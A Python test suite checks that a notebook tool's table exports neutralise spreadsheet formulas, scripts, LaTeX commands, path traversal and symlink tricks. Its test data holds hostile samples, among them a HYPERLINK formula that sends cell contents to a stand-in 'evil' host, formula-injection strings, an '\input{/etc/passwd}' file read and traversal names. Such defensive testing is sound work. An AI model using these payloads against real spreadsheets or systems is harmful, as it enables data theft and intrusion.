"""Exported tables run no code in browsers, spreadsheets, terminals or TeX, and follow no symlinks."""

import csv
import io
import json
import os
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from seer_nb.views.export import export, formats
from seer_nb.views.tables import curves_frame, events_frame, results_frame, spending_frame
from tests.support.fuzzing import examples
from tests.support.hostile_texts import ALL, FORMULAS, SCRIPTS, assert_harmless, study
from tests.support.refusals import make, raised

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
RUNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


@pytest.fixture(scope="module")
def tables():
    made = study()
    state = made.state
    return [results_frame(state), curves_frame(state), spending_frame(state), events_frame(made.records)]


@pytest.fixture
def numbers():
    """Negative numbers and lists beside hostile texts."""
    return pd.DataFrame({"n": [-1.5, 2.0], "k": [-3, 4], "list": [["a;=1+1"], {"=1": "@x"}], "t": ["a;=1+1", "x\t@y"]})


def test_every_format_accepts_every_table(tables, tmp_path):
    for table in tables:
        for suffix in formats():
            assert export(table, tmp_path / f"r.{suffix}", SCRIPTS[3]).stat().st_size > 0


def test_html_export_is_harmless(tables, tmp_path):
    for table in tables:
        page = export(table, tmp_path / "r.html", SCRIPTS[3]).read_text()
        assert_harmless(page)
        assert not CONTROL.search(page)
    assert SCRIPTS[0] in assert_harmless(export(tables[0], tmp_path / "r.html").read_text()).text


def test_csv_export_has_no_formulas(tables, numbers, tmp_path):
    for table in (*tables, numbers):
        text = export(table, tmp_path / "r.csv").read_bytes().decode()
        assert not CONTROL.search(text)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert {len(row) for row in rows} == {len(table.columns)}
        for row in rows:
            for cell, kind in zip(row, table.dtypes, strict=True):
                numeric = kind.kind in "if" and row is not rows[0]
                assert numeric or not RUNS.match(cell), cell
    back = pd.read_csv(tmp_path / "r.csv")
    assert back["n"].tolist() == [-1.5, 2.0]
    assert back["k"].tolist() == [-3, 4]


def written(frame, path):
    return export(frame, path).read_bytes().decode()


def cells(text, separator):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


FORMULA_LIKE = st.text(st.sampled_from("=+-@\uff1d\uff0b;\t\n\r\",' \u2003a1"), max_size=12)
FORMULA_START = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@examples(300)
@given(st.lists(st.tuples(FORMULA_LIKE, FORMULA_LIKE, FORMULA_LIKE), min_size=1, max_size=3), st.booleans())
def test_no_csv_cell_is_a_formula_under_any_separator(tmp_path_factory, rows, numbered):
    """Spreadsheets in locales with a decimal comma split at semicolons; some split at tabs."""
    table = pd.DataFrame(rows, columns=["a", "b", "c"])
    if numbered:
        table.insert(0, "trial", range(len(table)))
    text = written(table, tmp_path_factory.getbasetemp() / "any.csv")
    for separator in ",;\t":
        assert not [cell for cell in cells(text, separator) if FORMULA_START.match(cell)], separator
    assert {len(row) for row in csv.reader(io.StringIO(text, newline=""))} == {len(table.columns)}


@pytest.mark.parametrize(
    "text",
    ['ValueError: x\n=HYPERLINK("http://evil/?"&A1)', 'x;"=1+1;y', "a;\uff1d1+1", "a\n\t;@x", 'a;" "+1', "a;\u2003=1"],
)
def test_formulas_after_a_separator_or_line_break_are_disarmed(tmp_path, text):
    table = pd.DataFrame({"trial": [0], "error": [text]})
    for separator in ",;\t":
        assert not [cell for cell in cells(written(table, tmp_path / "r.csv"), separator) if FORMULA_START.match(cell)]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("gap", ["\t", ";", '"', " ", "\n", "; ", ';"', "\t "])
def test_export_of_a_long_gap_takes_linear_time(tmp_path, gap):
    """Guards against quadratic time, which would be hours for a million characters."""
    long = gap * (1_000_000 // len(gap))
    text = written(pd.DataFrame({"error": [f"x{long}", f"x{long}=1"]}), tmp_path / "r.csv")
    assert len(text) > 2 * len(long)


def test_pandas_reads_disarmed_texts_back(tmp_path):
    table = pd.DataFrame({"text": [text for text in FORMULAS if text.isprintable()]})
    back = pd.read_csv(export(table, tmp_path / "r.csv"))
    assert back["text"].str.removeprefix("'").tolist() == table["text"].tolist()


def test_xlsx_export_has_no_formulas(tables, numbers, tmp_path):
    for table in (*tables, numbers):
        path = export(table, tmp_path / "r.xlsx", FORMULAS[0])
        with zipfile.ZipFile(path) as archive:
            assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
        for row in openpyxl.load_workbook(path).active:
            for cell in row:
                assert cell.data_type != "f"
                assert not isinstance(cell.value, str) or not cell.value.startswith(("=", "+", "@", "\t"))
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert [cell.value for cell in sheet["A"]] == ["n", -1.5, 2]
    assert {cell.data_type for cell in (*sheet["A"][1:], *sheet["B"][1:])} == {"n"}


def test_markdown_export_has_no_html_links_or_code(tables, tmp_path):
    for table in tables:
        text = export(table, tmp_path / "r.md").read_text()
        assert not CONTROL.search(text)
        assert not re.search(r"<(?!br>)", text)
        # No link, image or code; bars occur only between cells.
        assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]`]", text)
        bars = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in text.splitlines()}
        assert bars == {len(table.columns) + 1}


def test_latex_export_has_only_table_commands(tables, tmp_path):
    for table in tables:
        text = export(table, tmp_path / "r.tex", ALL[0]).read_text()
        assert not CONTROL.search(text)
        assert r"\input" not in text
        assert r"\textbackslash{}input\{/etc/passwd\}" in text or "config_lr" not in text
        assert not re.search(r"\\\\\s*[\[*]", text)
        commands = set(re.findall(r"\\([a-zA-Z]+)", text))
        drawn = {"begin", "end", "caption", "toprule", "midrule", "bottomrule", "centering"}
        assert commands <= drawn | {"textbackslash", "textasciitilde", "textasciicircum", "textless", "textgreater"}


def test_json_and_parquet_exports_are_exact(tables, tmp_path):
    rows = json.loads(export(tables[0], tmp_path / "r.json").read_text())
    back = pd.read_parquet(export(tables[0], tmp_path / "r.parquet"))
    for text in ALL:
        assert rows[0][f"config_{text}"] == text
        assert back[f"config_{text}"].iloc[0] == text


# --- paths ---


@pytest.mark.parametrize(
    "name", ["../up", "..", ".", "/etc/x", "a/b", "a\\b", "~", "-rf", "a\0", "a\n", "a\nb", " ", "é"]
)
def test_study_name_cannot_be_a_path(tmp_path, monkeypatch, name):
    monkeypatch.setenv("SEER_HOME", str(tmp_path / "studies"))
    assert "is not a name for a study" in raised(ValueError, make, name=name)
    assert not (tmp_path / "studies").exists()


def test_export_does_not_follow_symlinks(tmp_path, monkeypatch):
    table, victim = pd.DataFrame({"a": [1]}), tmp_path / "victim"
    victim.write_text("mine")
    monkeypatch.setattr("secrets.token_hex", lambda _: "guessed")
    (tmp_path / ".guessed.part").symlink_to(victim)
    with pytest.raises(FileExistsError):
        export(table, tmp_path / "r.csv")
    assert victim.read_text() == "mine"
    monkeypatch.undo()
    (tmp_path / "r.csv").symlink_to(victim)
    export(table, tmp_path / "r.csv")  # the link itself is replaced
    assert victim.read_text() == "mine"


def test_file_name_with_nul_is_rejected(tmp_path):
    os.chdir(tmp_path)
    assert raised(ValueError, export, pd.DataFrame(), "a\0.csv") == (
        "path='a\\x00.csv': contains the character NUL; expected a valid file name"
    )
